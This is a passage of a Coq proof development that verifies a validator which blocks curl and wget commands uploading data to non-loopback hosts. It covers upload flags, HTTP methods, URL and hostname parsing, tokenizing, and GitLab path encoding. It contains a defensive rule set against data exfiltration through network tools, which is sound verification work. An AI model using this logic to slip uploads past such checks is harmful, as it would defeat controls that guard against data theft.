      destruct Hcases as [[Hquiet Hh] | [(k & t & flag & Hk & Htk & Hf) Hh]].
      * left. split; [|congruence]. intros k t Hreach Hk.
        destruct (wget_reads_from_cases _ _ _ Hreach) as [-> | (t' & Ht' & Hreach')].
        -- congruence.
        -- replace t' with token in * by congruence. by eapply Hquiet.
      * right. split; [|done]. exists k, t, flag. split_and!; try done.
        by eapply wget_reads_from_step.
Qed.

Lemma scan_init_sound : wget_state_sound scan_init.
Proof. right. by split_and!. Qed.

(** For a sound state the upload test is the test of [has_upload_data]. *)
Lemma sound_is_upload (st : scan) :
  wget_state_sound st → is_upload st = has_upload_data st.
Proof.
  unfold is_upload. intros [[-> _] | (-> & -> & _)]; reflexivity.
Qed.

(** X7. A wget command whose target is absent or not loopback is rejected
    exactly when the loop reads an upload flag; [--method] and
    [--method=value] count as upload flags whatever the method. *)
Theorem wget_rejected_iff_upload_flag (command_string : string)
    (tokens : list string) :
  Shlex.split command_string = Some tokens →
  head tokens = Some "wget" →
  url_is_local (wget_url tokens) = false →
  (validate_wget_command command_string).1 = false ↔
  ∃ k token flag,
    wget_reads_from tokens 1 k ∧ tokens !! k = Some token
    ∧ wget_upload_flag token = Some flag.
Proof.
  intros Hsplit Hhead Hurl.
  rewrite (validate_wget_on_tokens _ _ Hsplit Hhead).
  unfold decide_upload. rewrite Hurl.
  destruct (wget_scan_upload tokens (length tokens) 1 scan_init)
    as [Hsound Hcases]; [lia | apply scan_init_sound |].
  rewrite (sound_is_upload _ Hsound).
  set (final := wget_scan (length tokens) tokens 1 scan_init) in *.
  clearbody final.
  destruct Hcases as [[Hquiet Hh] | [Hread Hh]]; rewrite Hh; simpl.
  - split; [intros [=] |]. intros (k & t & flag & Hk & Htk & Hf).
    rewrite (Hquiet k t Hk Htk) in Hf. congruence.
  - split; [by intros _ |]. intros _.
    by destruct (upload_flag_found final) as [flag|];
      [destruct (PyStr.nonempty flag) |].
Qed.

(** X8. Whatever the command, the wget validator answers with one of four
    results: acceptance with the empty reason, or a rejection whose reason
    is the parse message, the wrong-command message, or the message naming
    an upload flag of the table.  The message that names the method is
    never produced. *)
Theorem wget_reasons (command_string : string) :
  let result := validate_wget_command command_string in
  result = (true, "")
  ∨ result = (false, "Could not parse wget command")
  ∨ result = (false, "Not a wget command")
  ∨ ∃ flag, flag ∈ WGET_UPLOAD_FLAGS
            ∧ result = (false, "wget with '" +:+ flag +:+ "'" +:+ BLOCKED_TAIL).
Proof.
  intros result. subst result. unfold validate_wget_command.
  destruct (Shlex.split command_string) as [tokens|]; [|by right; left].
  destruct (bool_decide (head tokens = Some "wget")); [|by right; right; left].
  unfold decide_upload.
  destruct (url_is_local (wget_url tokens)); [by left |].
  destruct (wget_scan_upload tokens (length tokens) 1 scan_init)
    as [Hsound _]; [lia | apply scan_init_sound |].
  rewrite (sound_is_upload _ Hsound).
  set (final := wget_scan (length tokens) tokens 1 scan_init) in *.
  clearbody final.
  destruct Hsound as [(-> & flag & -> & Hin) | (-> & _ & _)]; [|by left].
  right; right; right. exists flag. split; [done |].
  assert (PyStr.nonempty flag = true) as ->; [|done].
  apply list_elem_of_In in Hin. revert flag Hin.
  apply List.forallb_forall. by vm_compute.
Qed.

End WgetScan.

(** ** The reasons of the curl validator *)

Section CurlReasons.
Context `{PyText}.

(** X9. Whatever the command, the curl validator answers with acceptance
    and the empty reason, or with a rejection whose reason is the parse
    message, the wrong-command message, the message naming an upload flag
    of the table, or the message naming POST, PUT or PATCH. *)
Theorem curl_reasons (command_string : string) :
  let result := validate_curl_command command_string in
  result = (true, "")
  ∨ result = (false, "Could not parse curl command")
  ∨ result = (false, "Not a curl command")
  ∨ (∃ flag, flag ∈ CURL_UPLOAD_FLAGS
             ∧ result = (false, "curl with '" +:+ flag +:+ "'" +:+ BLOCKED_TAIL))
  ∨ (∃ method, method ∈ UPLOAD_METHODS
               ∧ result = (false, "curl " +:+ method +:+ BLOCKED_TAIL)).
Proof.
  intros result. subst result. unfold validate_curl_command.
  destruct (Shlex.split command_string) as [tokens|]; [|by right; left].
  destruct (bool_decide (head tokens = Some "curl")); [|by right; right; left].
  unfold decide_upload, is_upload.
  destruct (url_is_local _); [by left |].
  destruct (curl_scan_upload tokens (length tokens) 1 scan_init) as
    [(_ & Hhas & Hfound) | (k & t & flag & _ & _ & Hflag & _ & Hhas & Hfound)];
    [lia | |].
  - set (final := curl_scan (length tokens) tokens 1 scan_init) in *.
    clearbody final. rewrite Hhas, Hfound. simpl.
    destruct (explicit_method final) as [m|]; [|by left].
    destruct (bool_decide (m ∈ UPLOAD_METHODS)) eqn:Hm; [|by left].
    apply bool_decide_eq_true in Hm.
    right; right; right; right. by exists m.
  - set (final := curl_scan (length tokens) tokens 1 scan_init) in *.
    clearbody final. rewrite Hhas, Hfound. simpl.
    apply curl_upload_flag_Some in Hflag as [Hin _].
    rewrite (upload_flags_nonempty flag Hin).
    right; right; right; left. by exists flag.
Qed.

End CurlReasons.

(** ** The URL a validator decides on *)

Section Urls.
Context `{PyText}.

(** *** The URL of a curl command *)

Lemma http_prefixed_has_scheme (token : string) :
  has_url_scheme ("http://" +:+ token) = true.
Proof. by destruct token. Qed.

Lemma extract_url_from_token skip_flags skip_next (tokens : list string) u :
  extract_url skip_flags skip_next tokens = Some u →
  has_url_scheme u = true
  ∧ ∃ token, token ∈ tokens ∧ PyStr.startswith "-" token = false
             ∧ (u = token
                ∨ has_url_scheme token = false ∧ u = "http://" +:+ token).
Proof.
  revert skip_next.
  induction tokens as [|x tokens IH]; intros skip_next; [done |].
  assert (∀ skip, extract_url skip_flags skip tokens = Some u →
            has_url_scheme u = true
            ∧ ∃ token, token ∈ x :: tokens ∧ PyStr.startswith "-" token = false
                       ∧ (u = token
                          ∨ has_url_scheme token = false ∧ u = "http://" +:+ token))
    as Hrest.
  { intros skip Hu. destruct (IH skip Hu) as (Hs & t & Hin & Ht).
    split; [done |]. exists t. split; [by apply list_elem_of_further | done]. }
  simpl. destruct skip_next; [apply Hrest |].
  destruct (PyStr.startswith "-" x) eqn:Hdash; [apply Hrest |].
  destruct (has_url_scheme x) eqn:Hscheme.
  { intros [= <-]. split; [done |]. exists x.
    split; [apply list_elem_of_here | by split; [|left]]. }
  destruct (PyStr.contains "." x || bool_decide (x ∈ ALLOWED_HOSTS));
    [|apply Hrest].
  intros [= <-]. split; [apply http_prefixed_has_scheme |]. exists x.
  split; [apply list_elem_of_here | by split; [|right]].
Qed.

(** X10. Whatever the table of flags, a URL returned by
    [_extract_url_from_tokens] starts with http://, https:// or ftp://, and
    it stems from an argument that does not start with a dash: it is that
    argument, or that argument with http:// in front when the argument has
    no scheme of its own.  The command name is never taken. *)
Theorem extracted_url_stems_from_argument (tokens skip_flags : list string)
    (u : string) :
  _extract_url_from_tokens tokens skip_flags = Some u →
  has_url_scheme u = true
  ∧ ∃ token, token ∈ tail tokens ∧ PyStr.startswith "-" token = false
             ∧ (u = token
                ∨ has_url_scheme token = false ∧ u = "http://" +:+ token).
Proof. apply extract_url_from_token. Qed.

(** *** The URL of a wget command *)

(** A token with a URL scheme does not start with a dash, so the dash test
    of the wget search never decides. *)
Lemma scheme_not_dash (token : string) :
  has_url_scheme token = true → PyStr.startswith "-" token = false.
Proof.
  destruct token as [|c token]; [done |].
  unfold has_url_scheme, PyStr.startswith. cbn [String.prefix].
  destruct (ascii_dec "-" c) as [<- | _]; [|done].
  by vm_compute.
Qed.

Lemma wget_test_is_scheme_test (token : string) :
  negb (PyStr.startswith "-" token) && has_url_scheme token = has_url_scheme token.
Proof.
  destruct (has_url_scheme token) eqn:Hs; [|apply andb_false_r].
  by rewrite (scheme_not_dash token Hs).
Qed.

Lemma find_reverse_Some {A} (f : A → bool) (l : list A) (x : A) :
  List.find f (reverse l) = Some x ↔
  ∃ front back : list A, l = (front ++ x :: back)%list ∧ f x = true
                ∧ Forall (λ y, f y = false) back.
Proof.
  split.
  - induction l as [|y l IH] using rev_ind; [done |].
    rewrite reverse_snoc. simpl. destruct (f y) eqn:Hy.
    + intros [= ->]. exists l, []. by split_and!.
    + intros Hfind. destruct (IH Hfind) as (front & back & -> & Hx & Hback).
      exists front, (back ++ [y])%list. split_and!; [by rewrite <- app_assoc | done |].
      apply Forall_app. split; [done |]. by apply Forall_singleton.
  - intros (front & back & -> & Hx & Hback).
    rewrite reverse_app, reverse_cons, <- app_assoc. simpl.
    induction back as [|y back IH] using rev_ind.
    + rewrite reverse_nil. simpl. by rewrite Hx.
    + apply Forall_app in Hback as [Hback Hy].
      rewrite Forall_singleton in Hy.
      rewrite reverse_snoc. simpl. rewrite Hy. by apply IH.
Qed.

(** X11. The URL of a wget command is the last argument that starts with
    http://, https:// or ftp://, wherever it stands: [wget_url] returns [u]
    exactly when the arguments are [front ++ u :: back] with [u] such a
    token and no such token in [back]. *)
Theorem wget_url_is_last_url_token (tokens : list string) (u : string) :
  wget_url tokens = Some u ↔
  ∃ front back : list string, tail tokens = (front ++ u :: back)%list
                ∧ has_url_scheme u = true
                ∧ Forall (λ token, has_url_scheme token = false) back.
Proof.
  unfold wget_url. rewrite find_reverse_Some.
  split; intros (front & back & Htail & Hu & Hback); exists front, back;
    (split_and!; [done | |]).
  - by rewrite wget_test_is_scheme_test in Hu.
  - eapply Forall_impl; [exact Hback |]. intros t Ht. cbv beta in Ht.
    by rewrite wget_test_is_scheme_test in Ht.
  - by rewrite wget_test_is_scheme_test.
  - eapply Forall_impl; [exact Hback |]. intros t Ht. cbv beta.
    by rewrite wget_test_is_scheme_test.
Qed.

(** *** The hostname of a URL *)

Lemma contains_app (c : ascii) (a b : string) :
  PyStr.contains c (a +:+ b) = PyStr.contains c a || PyStr.contains c b.
Proof.
  induction a as [|d a IH]; [done |]. simpl.
  by destruct (Ascii.eqb c d).
Qed.

Lemma forallb_app (p : ascii → bool) (a b : string) :
  PyStr.forallb p (a +:+ b) = PyStr.forallb p a && PyStr.forallb p b.
Proof.
  induction a as [|d a IH]; [done |]. simpl. rewrite IH. apply andb_assoc.
Qed.

(** A string that lacks the characters [chars] contains none of them. *)
Lemma lacks_contains (chars s : string) (c : ascii) :
  lacks chars s = true → PyStr.contains c chars = true →
  PyStr.contains c s = false.
Proof.
  intros Hl Hc. induction s as [|d s IH]; [done |].
  unfold lacks in Hl. cbn [PyStr.forallb] in Hl. cbn [PyStr.contains].
  apply andb_true_iff in Hl as [Hd Hs].
  destruct (Ascii.eqb c d) eqn:Hcd; [|by apply IH].
  apply Ascii.eqb_eq in Hcd as <-. by rewrite Hc in Hd.
Qed.

Lemma remove_app (p : ascii → bool) (a b : string) :
  PyStr.remove p (a +:+ b) = PyStr.remove p a +:+ PyStr.remove p b.
Proof.
  induction a as [|d a IH]; [done |]. simpl. rewrite IH. by destruct (p d).
Qed.

Lemma lacks_cons (chars : string) (d : ascii) (s : string) :
  lacks chars (String d s) = true →
  PyStr.contains d chars = false ∧ lacks chars s = true.
Proof.
  unfold lacks. cbn [PyStr.forallb].
  intros [Hd Hs]%andb_true_iff. by apply negb_true_iff in Hd.
Qed.

(** The characters of [netloc_breaks], one by one. *)
Lemma not_a_break (d : ascii) :
  PyStr.contains d netloc_breaks = false →
  PyStr.contains d "/?#" = false ∧ UrlParse.unsafe_url_byte d = false.
Proof.
  replace netloc_breaks
    with (String "/" (String "?" (String "#" (String "[" (String "]"
           (String "009" (String "013" (String "010" "")))))))) by reflexivity.
  unfold UrlParse.unsafe_url_byte, Shlex.TAB, Shlex.CR, Shlex.LF.
  cbn [PyStr.contains].
  destruct (Ascii.eqb d "/"), (Ascii.eqb d "?"), (Ascii.eqb d "#"),
    (Ascii.eqb d "["), (Ascii.eqb d "]"), (Ascii.eqb d "009"),
    (Ascii.eqb d "013"), (Ascii.eqb d "010"); done.
Qed.

Lemma remove_lacking (s : string) :
  lacks netloc_breaks s = true →
  PyStr.remove UrlParse.unsafe_url_byte s = s.
Proof.
  induction s as [|d s IH]; [done |].
  intros [Hd Hs]%lacks_cons. cbn [PyStr.remove].
  destruct (not_a_break d Hd) as [_ ->]. by rewrite (IH Hs).
Qed.

Lemma remove_ends_netloc (rest : string) :
  ends_netloc rest = true →
  ends_netloc (PyStr.remove UrlParse.unsafe_url_byte rest) = true.
Proof.
  destruct rest as [|c rest]; [done |]. cbn [ends_netloc PyStr.remove].
  intros Hc.
  assert (UrlParse.unsafe_url_byte c = false) as ->; [|done].
  revert Hc. unfold UrlParse.unsafe_url_byte. cbn [PyStr.contains].
  destruct (Ascii.eqb c "/") eqn:H1; [by apply Ascii.eqb_eq in H1 as -> |].
  destruct (Ascii.eqb c "?") eqn:H2; [by apply Ascii.eqb_eq in H2 as -> |].
  destruct (Ascii.eqb c "#") eqn:H3; [by apply Ascii.eqb_eq in H3 as -> |].
  done.
Qed.

Lemma splitnetloc_app (netloc rest : string) :
  lacks netloc_breaks netloc = true → ends_netloc rest = true →
  UrlParse.splitnetloc (netloc +:+ rest) = netloc.
Proof.
  intros Hl Hr. induction netloc as [|d s IH].
  - destruct rest as [|c rest]; [done |].
    cbn [ends_netloc] in Hr.
    change ("" +:+ String c rest) with (String c rest).
    cbn [UrlParse.splitnetloc]. by rewrite Hr.
  - apply lacks_cons in Hl as [Hd Hs].
    change (String d s +:+ rest) with (String d (s +:+ rest)).
    cbn [UrlParse.splitnetloc].
    destruct (not_a_break d Hd) as [-> _]. by rewrite (IH Hs).
Qed.

Lemma partition_without (c : ascii) (s : string) :
  PyStr.contains c s = false → PyStr.partition c s = (s, false, "").
Proof.
  induction s as [|d s IH]; [done |]. simpl.
  destruct (Ascii.eqb c d); [done |]. intros Hs. by rewrite (IH Hs).
Qed.

Lemma partition_at_first (c : ascii) (a b : string) :
  PyStr.contains c a = false →
  PyStr.partition c (a +:+ String c b) = (a, true, b).
Proof.
  induction a as [|d a IH]; simpl.
  - by rewrite Ascii.eqb_refl.
  - destruct (Ascii.eqb c d); [done |]. intros Ha. by rewrite (IH Ha).
Qed.

Lemma rpartition_without (c : ascii) (s : string) :
  PyStr.contains c s = false → PyStr.rpartition c s = ("", false, s).
Proof.
  induction s as [|d s IH]; [done |]. simpl.
  destruct (Ascii.eqb c d); [done |]. intros Hs. by rewrite (IH Hs).
Qed.

Lemma rpartition_at_last (c : ascii) (a b : string) :
  PyStr.contains c b = false →
  PyStr.rpartition c (a +:+ String c b) = (a, true, b).
Proof.
  intros Hb. induction a as [|d a IH]; simpl.
  - by rewrite (rpartition_without c b Hb), Ascii.eqb_refl.
  - by rewrite IH.
Qed.

Lemma append_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof.
  induction a as [|d a IH]; [done |].
  change (String d ((a +:+ b) +:+ c) = String d (a +:+ b +:+ c)).
  by rewrite IH.
Qed.

Lemma append_empty (a : string) : a +:+ "" = a.
Proof.
  induction a as [|d a IH]; [done |].
  change (String d (a +:+ "") = String d a). by rewrite IH.
Qed.

(** [_hostinfo] on a location made of an optional user part that ends in
    [@], a host and an optional port that starts with a colon. *)
Lemma hostinfo_of_parts (auth host port : string) :
  (auth = "" ∨ ∃ user, auth = user +:+ "@") →
  (port = "" ∨ ∃ digits, port = ":" +:+ digits) →
  PyStr.contains "[" (host +:+ port) = false →
  PyStr.contains "@" (host +:+ port) = false →
  PyStr.contains ":" host = false →
  UrlParse._hostinfo (auth +:+ host +:+ port) = host.
Proof.
  intros Hauth Hport Hbr Hat Hcolon. unfold UrlParse._hostinfo.
  assert (∃ a b, PyStr.rpartition "@" (auth +:+ host +:+ port)
                 = (a, b, host +:+ port)) as (a & b & ->).
  { destruct Hauth as [-> | (user & ->)].
    - exists "", false. by apply rpartition_without.
    - exists user, true. rewrite append_assoc. by apply rpartition_at_last. }
  rewrite (partition_without "[" _ Hbr).
  destruct Hport as [-> | (digits & ->)].
  - by rewrite append_empty, partition_without.
  - change (":" +:+ digits) with (String ":" digits).
    by rewrite partition_at_first.
Qed.

Lemma ascii_lower_char_facts (c : ascii) :
  let lower := λ c, if PyStr.is_upper c
                    then ascii_of_nat (nat_of_ascii c + 32) else c in
  Nat.ltb (nat_of_ascii c) 128 = true →
  Nat.ltb (nat_of_ascii (lower c)) 128 = true ∧ lower (lower c) = lower c.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; intros lower Hc;
    first [discriminate Hc | split; reflexivity].
Qed.

Lemma ascii_lower_stable (s : string) :
  PyStr.isascii s = true →
  PyStr.isascii (PyStr.ascii_lower s) = true
  ∧ PyStr.ascii_lower (PyStr.ascii_lower s) = PyStr.ascii_lower s.
Proof.
  unfold PyStr.isascii, PyStr.ascii_lower.
  induction s as [|c s IH]; [done |]. cbn [PyStr.forallb PyStr.map].
  intros [Hc Hs]%andb_true_iff. destruct (IH Hs) as [IH1 IH2].
  destruct (ascii_lower_char_facts c Hc) as [Hc1 Hc2]. cbv zeta in Hc1, Hc2.
  split; [by rewrite Hc1, IH1 | by rewrite Hc2, IH2].
Qed.

(** The three schemes, each followed by [://], go through the first steps
    of [urlsplit] unchanged up to the two slashes. *)
Lemma urlsplit_after_scheme (scheme tail : string) :
  scheme ∈ ["http"; "https"; "ftp"] →
  UrlParse.strip_scheme
    (PyStr.remove UrlParse.unsafe_url_byte
       (PyStr.lstrip UrlParse.c0_control_or_space (scheme +:+ "://" +:+ tail)))
  = "//" +:+ PyStr.remove UrlParse.unsafe_url_byte tail.
Proof.
  rewrite !elem_of_cons, elem_of_nil.
  intros [-> | [-> | [-> | []]]]; reflexivity.
Qed.

(** X12. The loopback decision of [_is_localhost] on a URL
    [scheme://auth host port rest], with one of the three schemes, an
    optional user part ending in [@], an optional port starting with a
    colon, and nothing or a path, query or fragment after it: the URL is
    loopback exactly when the host, in lower case, is one of the allowed
    hosts.  The user part, the port and the rest have no say. *)
Theorem is_localhost_by_host (scheme auth host port rest : string) :
  scheme ∈ ["http"; "https"; "ftp"] →
  (auth = "" ∨ ∃ user, auth = user +:+ "@") →
  (port = "" ∨ ∃ digits, port = ":" +:+ digits) →
  lacks netloc_breaks (auth +:+ host +:+ port) = true →
  PyStr.isascii (auth +:+ host +:+ port) = true →
  PyStr.nonempty host = true →
  lacks "@:%" host = true →
  lacks "@" port = true →
  ends_netloc rest = true →
  _is_localhost (scheme +:+ "://" +:+ auth +:+ host +:+ port +:+ rest)
  = bool_decide (PyStr.ascii_lower host ∈ ALLOWED_HOSTS).
Proof.
  intros Hscheme Hauth Hport Hbreaks Hascii Hhost Hlacks Hportat Hrest.
  set (netloc := auth +:+ host +:+ port) in *.
  replace (auth +:+ host +:+ port +:+ rest) with (netloc +:+ rest)
    by (unfold netloc; by rewrite !append_assoc).
  assert (UrlParse.urlsplit_netloc (scheme +:+ "://" +:+ netloc +:+ rest)
          = Some netloc) as Hsplit.
  { unfold UrlParse.urlsplit_netloc.
    rewrite (urlsplit_after_scheme scheme _ Hscheme).
    rewrite remove_app, (remove_lacking netloc Hbreaks).
    change ("//" +:+ netloc +:+ PyStr.remove UrlParse.unsafe_url_byte rest)
      with (String "/" (String "/"
              (netloc +:+ PyStr.remove UrlParse.unsafe_url_byte rest))).
    cbv beta iota zeta.
    rewrite (splitnetloc_app netloc _ Hbreaks (remove_ends_netloc rest Hrest)).
    rewrite (lacks_contains netloc_breaks netloc "[" Hbreaks eq_refl).
    rewrite (lacks_contains netloc_breaks netloc "]" Hbreaks eq_refl).
    unfold UrlParse._checknetloc. rewrite Hascii. simpl.
    by rewrite orb_true_r. }
  assert (PyStr.isascii host = true) as Hhost_ascii.
  { unfold netloc, PyStr.isascii in Hascii. rewrite !forallb_app in Hascii.
    by apply andb_true_iff in Hascii as [_ [? _]%andb_true_iff]. }
  assert (UrlParse._hostinfo netloc = host) as Hinfo.
  { apply hostinfo_of_parts; try done.
    - apply (lacks_contains netloc_breaks); [|done].
      unfold netloc, lacks in Hbreaks. rewrite forallb_app in Hbreaks.
      by apply andb_true_iff in Hbreaks as [_ ?].
    - rewrite contains_app.
      by rewrite (lacks_contains "@:%" host "@"), (lacks_contains "@" port "@").
    - by apply (lacks_contains "@:%"). }
  unfold _is_localhost, UrlParse.urlparse_hostname. rewrite Hsplit. simpl.
  unfold UrlParse.hostname. rewrite Hinfo, Hhost.
  rewrite (partition_without "%" host)
    by by apply (lacks_contains "@:%").
  simpl. rewrite append_empty.
  destruct (ascii_lower_stable host Hhost_ascii) as [Hlow Hidem].
  by rewrite (str_lower_ascii host Hhost_ascii), (str_lower_ascii _ Hlow), Hidem.
Qed.

End Urls.

(** ** Commands without quotes *)

Section PlainText.
Context `{PyText}.

(** The lexer between words and inside a word, on a character that is
    neither a quote nor the backslash. *)
Lemma read_between_words (c : ascii) (s : string) (esc : ascii) :
  unquoted c = true →
  Shlex.read_tokens (String c s) " " false esc ""
  = if Shlex.whitespace c then Shlex.read_tokens s " " false esc ""
    else Shlex.read_tokens s "a" false esc (String c "").
Proof.
  unfold unquoted. intros [Hq He]%andb_true_iff.
  apply negb_true_iff in Hq, He.
  cbn [Shlex.read_tokens].
  replace (Ascii.eqb " " " ") with true by reflexivity.
  rewrite Hq, He. reflexivity.
Qed.

Lemma read_inside_word (c : ascii) (s : string) (esc : ascii) (token : string) :
  unquoted c = true → PyStr.nonempty token = true →
  Shlex.read_tokens (String c s) "a" false esc token
  = if Shlex.whitespace c
    then cons token <$> Shlex.read_tokens s " " false " " ""
    else Shlex.read_tokens s "a" false esc (token +:+ String c "").
Proof.
  unfold unquoted. intros [Hq He]%andb_true_iff Hne.
  apply negb_true_iff in Hq, He.
  cbn [Shlex.read_tokens].
  replace (Ascii.eqb "a" " ") with false by reflexivity.
  replace (Shlex.quotes "a") with false by reflexivity.
  replace (Shlex.escape "a") with false by reflexivity.
  rewrite Hq, He. unfold Shlex.emit. rewrite Hne. reflexivity.
Qed.

Lemma append_snoc_assoc (a : string) (c : ascii) (b : string) :
  (a +:+ String c "") +:+ b = a +:+ String c b.
Proof.
  induction a as [|d a IH]; [done |].
  change (String d ((a +:+ String c "") +:+ b) = String d (a +:+ String c b)).
  by rewrite IH.
Qed.

Lemma snoc_nonempty (a : string) (c : ascii) :
  PyStr.nonempty (a +:+ String c "") = true.
Proof. by destruct a. Qed.

(** From either state the lexer reaches the end of a text without quotes,
    and hands out words whose characters are the characters of the text
    that are not whitespace. *)
Lemma read_unquoted (s : string) :
  PyStr.forallb unquoted s = true →
  ∀ esc,
    (∃ tokens, Shlex.read_tokens s " " false esc "" = Some tokens
               ∧ Forall (λ t, is_word t = true) tokens
               ∧ joined tokens = PyStr.remove Shlex.whitespace s)
    ∧ (∀ token, is_word token = true →
        ∃ tokens, Shlex.read_tokens s "a" false esc token = Some tokens
                  ∧ Forall (λ t, is_word t = true) tokens
                  ∧ joined tokens = token +:+ PyStr.remove Shlex.whitespace s).
Proof.
  induction s as [|c s IH]; intros Hplain esc.
  - split.
    + exists []. by split_and!.
    + intros token Hword. exists [token].
      pose proof Hword as [Hne _]%andb_true_iff.
      split_and!; [| by apply Forall_singleton | done].
      cbn [Shlex.read_tokens].
      replace (Ascii.eqb "a" " ") with false by reflexivity.
      replace (Shlex.quotes "a") with false by reflexivity.
      replace (Shlex.escape "a") with false by reflexivity.
      unfold Shlex.emit. by rewrite Hne.
  - cbn [PyStr.forallb] in Hplain. apply andb_true_iff in Hplain as [Hc Hs].
    cbn [PyStr.remove]. split.
    + rewrite (read_between_words c s esc Hc).
      destruct (Shlex.whitespace c) eqn:Hw.
      * apply (IH Hs esc).
      * destruct (IH Hs esc) as [_ Hinside].
        destruct (Hinside (String c "")) as (tokens & Hread & Hwords & Hjoin).
        { unfold is_word. cbn [PyStr.nonempty PyStr.forallb]. by rewrite Hw. }
        exists tokens. by split_and!.
    + intros token Hword.
      pose proof Hword as [Hne Hnows]%andb_true_iff.
      rewrite (read_inside_word c s esc token Hc Hne).
      destruct (Shlex.whitespace c) eqn:Hw.
      * destruct (IH Hs " "%char) as [(tokens & Hread & Hwords & Hjoin) _].
        exists (token :: tokens). rewrite Hread. split_and!; [done | |].
        -- by apply Forall_cons.
        -- unfold joined in Hjoin |- *. cbn [foldr]. by rewrite Hjoin.
      * destruct (IH Hs esc) as [_ Hinside].
        destruct (Hinside (token +:+ String c ""))
          as (tokens & Hread & Hwords & Hjoin).
        { unfold is_word. rewrite snoc_nonempty, forallb_app, Hnows.
          cbn [PyStr.forallb]. by rewrite Hw. }
        exists tokens. split_and!; [done | done |].
        by rewrite Hjoin, append_snoc_assoc.
Qed.

(** X13. A command without quote characters and without a backslash always
    tokenizes: the tokens are words (not empty, free of whitespace) and,
    written one after the other, they are the command without its
    whitespace.  On such a command neither validator answers with its
    parse message. *)
Theorem unquoted_command_tokenizes (command_string : string) :
  PyStr.forallb unquoted command_string = true →
  (∃ tokens, Shlex.split command_string = Some tokens
             ∧ Forall (λ t, is_word t = true) tokens
             ∧ joined tokens = PyStr.remove Shlex.whitespace command_string)
  ∧ validate_curl_command command_string ≠ (false, "Could not parse curl command")
  ∧ validate_wget_command command_string ≠ (false, "Could not parse wget command").
Proof.
  intros Hplain.
  destruct (read_unquoted command_string Hplain " "%char)
    as [(tokens & Hsplit & Hwords & Hjoin) _].
  fold (Shlex.split command_string) in Hsplit.
  split; [by exists tokens |].
  unfold validate_curl_command, validate_wget_command. rewrite Hsplit.
  unfold decide_upload. split.
  - destruct (bool_decide (head tokens = Some "curl")); [|by intros [=]].
    destruct (url_is_local _); [by intros [=] |].
    destruct (is_upload _); [|by intros [=]].
    destruct (upload_flag_found _) as [flag|];
      [destruct (PyStr.nonempty flag) |]; by intros [=].
  - destruct (bool_decide (head tokens = Some "wget")); [|by intros [=]].
    destruct (url_is_local _); [by intros [=] |].
    destruct (is_upload _); [|by intros [=]].
    destruct (upload_flag_found _) as [flag|];
      [destruct (PyStr.nonempty flag) |]; by intros [=].
Qed.

End PlainText.

(** ** The GitLab client *)

Section Gitlab.

Lemma hex_digit_safe (n : nat) : UrlQuote.always_safe (UrlQuote.hex_digit n) = true.
Proof. do 16 (destruct n as [|n]; [reflexivity |]). reflexivity. Qed.

Lemma hex_digit_injective (n m : nat) :
  (n < 16)%nat → (m < 16)%nat →
  UrlQuote.hex_digit n = UrlQuote.hex_digit m → n = m.
Proof.
  intros Hn Hm.
  do 16 (destruct n as [|n];
         [do 16 (destruct m as [|m]; [by vm_compute |]); lia |]).
  lia.
Qed.

Lemma percent_injective (c d : ascii) :
  UrlQuote.percent c = UrlQuote.percent d → c = d.
Proof.
  unfold UrlQuote.percent.
  pose proof (nat_ascii_bounded c) as Hc.
  pose proof (nat_ascii_bounded d) as Hd.
  pose proof (Nat.div_mod_eq (nat_of_ascii c) 16) as Hcn.
  pose proof (Nat.div_mod_eq (nat_of_ascii d) 16) as Hdn.
  pose proof (Nat.mod_upper_bound (nat_of_ascii c) 16) as Hcm.
  pose proof (Nat.mod_upper_bound (nat_of_ascii d) 16) as Hdm.
  set (hc := (nat_of_ascii c / 16)%nat) in *.
  set (lc := (nat_of_ascii c mod 16)%nat) in *.
  set (hd := (nat_of_ascii d / 16)%nat) in *.
  set (ld := (nat_of_ascii d mod 16)%nat) in *.
  clearbody hc lc hd ld.
  intros [= Hhi Hlo].
  apply hex_digit_injective in Hhi; [| lia | lia].
  apply hex_digit_injective in Hlo; [| lia | lia].
  rewrite <- (ascii_nat_embedding c), <- (ascii_nat_embedding d).
  f_equal. lia.
Qed.

Lemma percent_append_injective (c d : ascii) (rest1 rest2 : string) :
  UrlQuote.percent c +:+ rest1 = UrlQuote.percent d +:+ rest2 →
  UrlQuote.percent c = UrlQuote.percent d ∧ rest1 = rest2.
Proof.
  unfold UrlQuote.percent.
  generalize (UrlQuote.hex_digit (nat_of_ascii c / 16))
    (UrlQuote.hex_digit (nat_of_ascii c mod 16))
    (UrlQuote.hex_digit (nat_of_ascii d / 16))
    (UrlQuote.hex_digit (nat_of_ascii d mod 16)).
  intros a b a' b' Heq.
  change (String "%" (String a (String b rest1))
          = String "%" (String a' (String b' rest2))) in Heq.
  by injection Heq as -> -> ->.
Qed.

Lemma quoter_plain (c : ascii) :
  UrlQuote.quoter "" c
  = if UrlQuote.always_safe c then String c "" else UrlQuote.percent c.
Proof.
  unfold UrlQuote.quoter. cbn [PyStr.contains].
  by rewrite andb_false_r, orb_false_r.
Qed.

Lemma safe_char_not_delimiter (c : ascii) :
  UrlQuote.always_safe c || Ascii.eqb c "%" = true →
  PyStr.contains c "/?#&=+ " = false.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; intros; congruence.
Qed.

(** X14. The encoded project path is made of letters, digits, [_.-~] and
    percent escapes only, so it holds no slash, question mark, hash or
    blank; a path made of safe characters is left as it is. *)
Theorem encode_project_path_is_one_segment (project : string) :
  PyStr.forallb (λ c, UrlQuote.always_safe c || Ascii.eqb c "%")
    (GlabClient.encode_project_path project) = true
  ∧ lacks "/?#&=+ " (GlabClient.encode_project_path project) = true
  ∧ (PyStr.forallb UrlQuote.always_safe project = true →
     GlabClient.encode_project_path project = project).
Proof.
  unfold GlabClient.encode_project_path.
  assert (PyStr.forallb (λ c, UrlQuote.always_safe c || Ascii.eqb c "%")
            (UrlQuote.quote project "") = true) as Hsafe.
  { induction project as [|c project IH]; [done |].
    cbn [UrlQuote.quote]. rewrite forallb_app, IH, andb_true_r.
    rewrite quoter_plain.
    destruct (UrlQuote.always_safe c) eqn:Hc.
    - cbn [PyStr.forallb]. by rewrite Hc.
    - unfold UrlQuote.percent. cbn [PyStr.forallb].
      by rewrite !hex_digit_safe, Ascii.eqb_refl, orb_true_r. }
  split_and!; [exact Hsafe | |].
  - revert Hsafe. unfold lacks.
    generalize (UrlQuote.quote project ""). intros s.
    induction s as [|c s IH]; [done |]. cbn [PyStr.forallb].
